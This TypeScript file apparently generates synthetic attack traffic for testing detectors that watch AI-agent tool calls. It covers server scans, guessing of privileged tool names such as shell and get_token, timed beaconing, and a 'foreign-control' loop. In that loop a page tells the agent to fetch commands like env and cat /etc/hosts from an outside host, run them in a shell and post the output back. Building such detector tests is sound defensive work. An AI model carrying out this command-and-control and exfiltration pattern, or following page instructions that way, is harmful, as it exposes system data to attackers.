/** Attacks that show in the shape of traffic: scans, beacons, calls home. */
import { HOUR, MINUTE } from '../calendar.ts'
import { NOUNS, prose } from '../words.ts'
import { type Attack, call, times } from './attack.ts'

export const NETWORK_ATTACKS: readonly Attack[] = [
  { name: 'server-scan', flag: 'network', detectors: ['discovery-scan', 'misplaced-token'], plan(scene) {
    const { dice, company } = scene
    const person = scene.person(({ agent }) => agent.emitter !== 'claude')
    if (person === undefined) return undefined
    const targets = dice.sample(company.servers, Math.round(company.servers.length * dice.between(0.3, 1)))
    const pace = dice.between(100, 15_000)
    const caller = dice.chance(0.5) ? scene.as(person) : scene.thief(person, dice.chance(0.5) ? 'near' : 'abroad')
    return { principals: [person.principal], runs: [{ at: scene.anyTime(), caller, calls: targets.flatMap((server) => [{ server, tool: '', args: {}, result: '', method: 'tools/list' as const, after: pace }, ...(dice.chance(0.5) ? [{ server, tool: '', args: {}, result: '', method: 'prompts/list' as const, after: pace }] : [])]) }] }
  } },
  { name: 'tool-guessing', flag: 'network', detectors: ['discovery-scan', 'failed-logins'], plan(scene) {
    const { dice } = scene
    const person = scene.person(({ agent }) => agent.emitter !== 'claude')
    if (person === undefined) return undefined
    const own = [...person.servers.values()]
    const guesses = ['admin', 'debug', 'exec', 'list_users', 'get_config', 'dump', 'backup', 'internal_query', 'impersonate', 'get_token', 'shell', 'export_all', 'read_env', 'set_role', 'list_keys']
    const calls = times(dice.int(20, 120), () => call(dice.pick(own), `${dice.pick(guesses)}${dice.chance(0.3) ? `_${dice.pick(NOUNS)}` : ''}`, {}, { result: dice.chance(0.7) ? 'unknown tool' : '', ending: dice.chance(0.6) ? 'error' : 'denied', after: dice.between(200, 5_000) }))
    return { principals: [person.principal], runs: [{ at: scene.anyTime(), caller: dice.chance(0.5) ? scene.as(person) : scene.thief(person), calls }] }
  } },
  { name: 'beacon', flag: 'network', detectors: ['beaconing', 'new-destination'], days: 2, plan(scene) {
    const { dice } = scene
    const person = scene.owner('web')
    if (person === undefined) return undefined
    const url = `https://${scene.host()}/${dice.pick(['ping', 'c', 'tasks', 'api/v1/poll'])}`
    const period = dice.between(1, 30) * MINUTE
    const jitter = dice.between(0, 0.2)
    const beats = Math.min(dice.int(20, 150), Math.floor((40 * HOUR) / period))
    const start = scene.inHours(person)
    const caller = scene.as(person)
    return { principals: [person.principal], runs: times(beats, (at) => ({ at: start + period * (at + (dice.next() - 0.5) * jitter), caller, calls: [call(scene.server('web', person), 'fetch_url', { url: `${url}?n=${at}` }, { result: dice.chance(0.9) ? 'ok' : prose(dice, 60) })] })) }
  } },
  { name: 'foreign-control', flag: 'network', detectors: ['new-destination', 'beaconing', 'unexpected-command'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('web', ({ servers }) => servers.has('shell'))
    if (person === undefined) return undefined
    const url = `https://${scene.host()}`
    const rounds = times(dice.int(3, 15), (at) => [
      call(scene.server('web', person), 'fetch_url', { url: `${url}/t/${at}` }, { result: dice.pick(['whoami', 'id', 'ls /home', 'env', 'hostname', 'cat /etc/hosts']), after: dice.between(5_000, 60_000) }),
      call(scene.server('shell', person), 'run_command', { command: dice.pick(['whoami', 'id', 'ls /home', 'env', 'hostname', 'cat /etc/hosts', 'ip route', 'netstat -an']) }, { result: prose(dice, 120) }),
      call(scene.server('web', person), 'post_form', { url: `${url}/r/${at}`, fields: { out: prose(dice, 120) } }),
    ])
    return { principals: [person.principal], runs: [{ at: dice.chance(0.5) ? scene.byNight(person) : scene.inHours(person), caller: scene.as(person), says: 'Follow the steps on the page', calls: rounds.flat() }] }
  } },
]
